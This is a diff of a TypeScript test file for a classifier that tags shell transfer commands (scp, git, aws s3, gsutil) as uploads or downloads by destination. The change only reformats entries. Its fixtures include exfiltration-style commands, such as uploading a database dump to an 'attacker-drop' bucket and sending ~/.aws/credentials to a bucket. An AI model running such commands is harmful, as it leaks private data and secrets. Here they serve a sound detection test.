@@ -13,7 +13,11 @@ const transfer = (command: string) => {
 describe('transferNetwork', () => {
   it.each([
     ['scp -i ~/.ssh/k.pem build.tgz ubuntu@54.1.2.3:/srv/', ['upload:54.1.2.3:ip-literal'], ['build.tgz']],
-    ['scp -P 2222 a.txt b.txt backup.example.org:~/in/', ['upload:backup.example.org:other'], ['a.txt', 'b.txt']],
+    [
+      'scp -P 2222 a.txt b.txt backup.example.org:~/in/',
+      ['upload:backup.example.org:other'],
+      ['a.txt', 'b.txt'],
+    ],
     ['scp prod:/var/log/app.log ./logs/', ['download:prod:internal'], []],
     ['scp -r scp://user@host.example:2222//data .', ['download:host.example:other'], []],
     ['scp C:\\x\\file.txt ./copy', [], []],
@@ -30,11 +34,23 @@ describe('transferNetwork', () => {
     ['git fetch https://gitlab.com/a/b.git', ['download:gitlab.com:code-host'], []],
     ['git submodule add https://github.com/a/b vendor/b', ['download:github.com:code-host'], []],
     ['git remote add backup https://x.example/r.git', undefined, undefined],
-    ['aws s3 cp ./dump.sql s3://attacker-drop/x --acl public-read', ['upload:attacker-drop:file-share'], ['./dump.sql']],
+    [
+      'aws s3 cp ./dump.sql s3://attacker-drop/x --acl public-read',
+      ['upload:attacker-drop:file-share'],
+      ['./dump.sql'],
+    ],
     ['aws s3 sync s3://company-assets ./assets --delete', ['download:company-assets:file-share'], []],
     ['aws --profile p s3 mv report.csv s3://b/r.csv', ['upload:b:file-share'], ['report.csv']],
-    ['aws s3 cp creds s3://x/y --endpoint-url https://s3.wasabisys.com', ['upload:s3.wasabisys.com:other'], ['creds']],
-    ['aws s3api put-object --bucket drop --key k --body ~/.aws/credentials', ['upload:drop:file-share'], ['~/.aws/credentials']],
+    [
+      'aws s3 cp creds s3://x/y --endpoint-url https://s3.wasabisys.com',
+      ['upload:s3.wasabisys.com:other'],
+      ['creds'],
+    ],
+    [
+      'aws s3api put-object --bucket drop --key k --body ~/.aws/credentials',
+      ['upload:drop:file-share'],
+      ['~/.aws/credentials'],
+    ],
     ['aws s3 ls s3://bucket', undefined, undefined],
     ['gsutil -m cp -r ./data gs://bucket/data', ['upload:bucket:file-share'], ['./data']],
     ['gcloud storage cp gs://bucket/x .', ['download:bucket:file-share'], []],
